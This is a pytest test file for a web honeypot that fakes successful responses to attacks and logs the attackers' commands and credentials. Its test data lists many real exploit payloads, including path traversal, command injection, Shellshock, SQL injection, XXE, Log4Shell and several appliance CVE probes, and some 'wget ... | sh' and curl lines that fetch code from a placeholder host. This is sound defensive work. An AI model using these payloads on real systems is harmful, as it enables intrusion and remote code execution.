"""Exploits and what they get: as if they had worked, and never by doing anything."""

import json

import pytest
from web_honeypot.persona import Persona
from web_honeypot.request import Request
from web_honeypot.verdict import Verdict, judge

from honeypot_adapter.event import KINDS, Severity
from honeypot_adapter.identity import Identity

OWN = Identity(bytes(32))
LINUX = Persona(OWN, organisation="Example & Söhne")
WINDOWS = Persona(OWN, os_family="windows", server="iis")
APPLIANCE = Persona(OWN, os_family="appliance", server="nginx", skin="appliance")


def parsed(text: str) -> Request:
    head, _, body = text.partition("\n\n")
    line, *lines = head.split("\n")
    method, _, target = line.partition(" ")
    headers = tuple((name, value) for name, _, value in (each.partition(": ") for each in lines))
    return Request(method, target.replace(" ", "%20"), headers, body.encode("latin-1"))


def judged(text: str, persona: Persona = LINUX, attempt: int = 1) -> Verdict:
    return judge(persona, parsed(text), 1.5, lambda: attempt)


def body(text: str, persona: Persona = LINUX) -> str:
    return judged(text, persona).response.body.decode()


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("GET /?page=../../../etc/passwd", "root:x:0:0:root"),
        ("GET /?page=../../../etc/passwd%00.php", "root:x:0:0:root"),
        ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "root:x:0:0:root"),
        ("POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh\n\necho Content-Type: text/plain; echo; id", "uid=33(www-data)"),
        ("GET /?page=php://filter/convert.base64-encode/resource=/etc/passwd", "cm9vdDp4OjA6MDpyb290"),
        ("GET /?page=php://filter/convert.base64-encode/resource=wp-config.php", "PD9waHAKZGVmaW5l"),
        ("POST /?page=php://input\n\n<?php system('whoami'); ?>", "www-data"),
        ("GET /?x=data:text/plain;base64,PD9waHAgZWNobyBtZDUoJzEnKTs/Pg==", "c4ca4238a0b923820dcc509a6f75849b"),
        ("GET /index.php?page=http://192.0.2.7/c99.txt", "getaddrinfo"),
        ("GET /.env", "DB_PASSWORD="),
        ("GET /.git/HEAD", "ref: refs/heads/main"),
        ("GET /.git/config", "git@git.intranet.local"),
        ("GET /wp-config.php.bak", "DB_PASSWORD"),
        ("GET /ping?ip=1.1.1.1;uname%20-a", "Linux files01 6.1.0-37-amd64"),
        ("GET /ping?ip=1.1.1.1|id", "uid=33(www-data)"),
        ("GET /ping?ip=$(expr%2040%20%2B%202)", "42"),
        ("GET /ping?ip=1%26%26echo%20$((1337*3))", "4011"),
        ("GET /ping?ip=1;echo%20probe|md5sum", "1b234f2ba0a6ac3f3a0603acb23a4b57"),
        ("GET /x.php?cmd=cat%20/etc/hostname", "files01"),
        ("GET /\nUser-Agent: () { :; }; echo; /bin/cat /etc/passwd", "root:x:0:0"),
        ("POST /a/phpunit/src/Util/PHP/eval-stdin.php\n\n<?=md5('a')?>", "0cc175b9c0f1b6a831c399e269772661"),
        ("POST /?-d+allow_url_include%3d1\n\n<?php echo(md5('a')); ?>", "0cc175b9c0f1b6a831c399e269772661"),
        (
            "GET /?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            "uid=33",
        ),
        ("GET /?s=/x/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=a", "0cc175b9c0f1b6a83"),
        ("GET /\nContent-Type: %{(#_='multipart/form-data').(#cmd='id').(#x)}", "uid=33(www-data)"),
        ("GET /?name={{7*7}}", "49"),
        ("GET /?name=${191*7}", "1337"),
        ("GET /list?id=-1+union+select+1,0x71626b71,version()--+-", "<td>qbkq</td><td>10.11.14-MariaDB"),
        ("GET /list?id=-1+union+select+concat(0x71,user(),0x71),'abc'", "<td>qexampleshne@localhostq"),
        ("GET /list?id=1'", "error in your SQL syntax"),
        ("GET /search?q=<script>alert(1)</script>", "<script>alert(1)</script>"),
        (
            'POST /api\nContent-Type: text/xml\n\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
            "root:x:0:0",
        ),
        (
            'POST /api\nContent-Type: text/xml\n\n<!DOCTYPE a [<!ENTITY x SYSTEM "http://192.0.2.1/e">]>',
            "failed to load",
        ),
        ("GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", '"output": "root:x:0:0'),
        ('POST /mgmt/tm/util/bash\n\n{"command":"run","utilCmdArgs":"-c id"}', "uid=0(root)"),
        ("GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "var fgt_lang ="),
        ("GET /vpn/../vpns/cfg/smb.conf", "[global]"),
        ("POST /ui/vropspluginui/rest/services/uploadova", "SUCCESS"),
        ("GET /autodiscover/autodiscover.json?@a.b/mapi/nspi/", "MAPI/HTTP"),
        ("GET /public/plugins/alertlist/../../../../../etc/passwd", "root:x:0:0"),
        ("GET /cgi-bin/nas_sharing.cgi?user=x&cmd=15&system=aWQ=", "uid=0(root)"),
        ('POST /script\n\nscript=println("id".execute().text)', "uid=33"),
        ("POST /user/register?element_parents=x\n\nmail[#post_render][]=exec&mail[#markup]=id", "uid=33"),
        (
            "POST /wls-wsat/CoordinatorPortType\n\n<string>/bin/bash</string><string>-c</string><string>id</string>",
            "Fault",
        ),
        ("PUT /x.jsp\n\n<% out.println(1); %>", "Created"),
    ],
)
def test_exploit_seems_to_work(text: str, answer: str) -> None:
    assert answer in body(text)


@pytest.mark.parametrize(
    ("text", "answer"),
    [
        ("GET /?page=..\\..\\..\\windows\\win.ini", "[extensions]"),
        ("GET /ping?ip=1%26whoami", "iis apppool\\defaultapppool"),
        ("GET /ping?ip=1|ipconfig", "Windows IP Configuration"),
        ("GET /ping?ip=1%26nothing", ""),
        ("GET /x.aspx?cmd=type%20web.config", "connectionString"),
    ],
)
def test_windows_answers_like_windows(text: str, answer: str) -> None:
    assert answer in body(text, WINDOWS)
    assert "root:x" not in body("GET /?page=../../../etc/passwd", WINDOWS)


def test_appliance_runs_all_as_root() -> None:
    assert "uid=0(root)" in body("GET /apply.cgi?ping_addr=1;id", APPLIANCE)


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("GET /ping?ip=127.0.0.1;wget%20http://192.0.2.1/x.sh%20-O-|sh", "wget http://192.0.2.1/x.sh -O-|sh"),
        ("GET /x.php?cmd=id", "id"),
        ("GET /\nUser-Agent: () { :; }; /bin/bash -c 'id'", "/bin/bash -c 'id'"),
        ('POST /mgmt/tm/util/bash\n\n{"utilCmdArgs":"-c \'curl http://192.0.2.1\'"}', "curl http://192.0.2.1"),
        ("GET /shell?cd+/tmp;wget+http://192.0.2.1/jaws", "cd /tmp;wget http://192.0.2.1/jaws"),
    ],
)
def test_command_is_told(text: str, command: str) -> None:
    told = [each for each in judged(text).observations if each.detail == "command"]
    assert [each.data for each in told] == [command]
    assert told[0].severity is Severity.CRITICAL


def test_time_based_injection_does_not_wait_long() -> None:
    assert judged("GET /list?id=1+and+sleep(3600)").response.delay == 2.0
    assert judged("GET /list?id=1").response.delay == 0.0


def test_exploit_is_told_with_class_hole_and_the_whole_request() -> None:
    verdict = judged("GET /?x=1\nX-Api-Version: ${jndi:ldap://192.0.2.9/a}")
    attack = next(each for each in verdict.observations if each.detail == "attack")
    facts = json.loads(attack.data)
    assert facts["class"] == "code injection"
    assert facts["cve"][0] == "CVE-2021-44228"
    assert (attack.kind, attack.severity) == ("exploit", Severity.CRITICAL)
    request = verdict.observations[0]
    assert request.payload is not None
    assert b"X-Api-Version: ${jndi:ldap://192.0.2.9/a}\r\n" in request.payload.data


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("POST /index.php\n\nusername=anna&password=Sommer", ("anna", "Sommer")),
        ("POST /wp-login.php\n\nlog=admin&pwd=admin123", ("admin", "admin123")),
        ("POST /x\n\npma_username=root&pma_password=", ("root", "")),
        ("POST /j_security_check\n\nj_username=tomcat&j_password=s3cret", ("tomcat", "s3cret")),
        ('POST /api\nContent-Type: application/json\n\n{"auth":{"user":"x","password":"y"}}', ("x", "y")),
        ("POST /x\n\nuser[login]=a&user[password]=b", ("a", "b")),
        ("GET /manager/html\nAuthorization: Basic dG9tY2F0OnMzOmNyZXQ=", ("tomcat", "s3:cret")),
        ("GET /x\nAuthorization: Basic !!!", ("", "")),
        ("GET /x\nAuthorization: Bearer abc", ("", "abc")),
        ('GET /x\nAuthorization: Digest username="joe", response="12"', ("joe", 'username="joe", response="12"')),
    ],
)
def test_credentials_are_told(text: str, told: tuple[str, str]) -> None:
    found = {each.detail: each for each in judged(text).observations if each.kind == "login"}
    if told[1]:
        assert (found["username"].data, found["password"].data) == told
    assert found["login"].data == "refused"
    assert found["login"].severity is Severity.MEDIUM


def test_login_is_let_in_where_an_operator_wants_it() -> None:
    open_ = Persona(OWN, accept_after=2)
    tries = parsed("POST /index.php\n\nusername=a&password=b")
    first = judge(open_, tries, 1.5, lambda: 1)
    second = judge(open_, tries, 1.5, lambda: 2)
    assert (first.response.status, second.response.status) == (200, 302)
    cookie = dict(second.response.headers)["Set-Cookie"].partition(";")[0]
    inside = judge(open_, parsed(f"GET /home.php\nCookie: {cookie}"), 1.5, lambda: 3)
    assert b"No applications are assigned" in inside.response.body
    assert judged("GET /home.php").response.status == 302
    assert [each.severity for each in second.observations if each.detail == "login"] == [Severity.HIGH]


@pytest.mark.parametrize("persona", [LINUX, WINDOWS, APPLIANCE])
def test_every_kind_of_event_is_one_of_the_contract(persona: Persona) -> None:
    for text in ("GET /", "GET /?x=;id", "PUT /x\n\na", "POST /\n\nuser=a&password=b"):
        assert {each.kind for each in judged(text, persona).observations} <= set(KINDS)
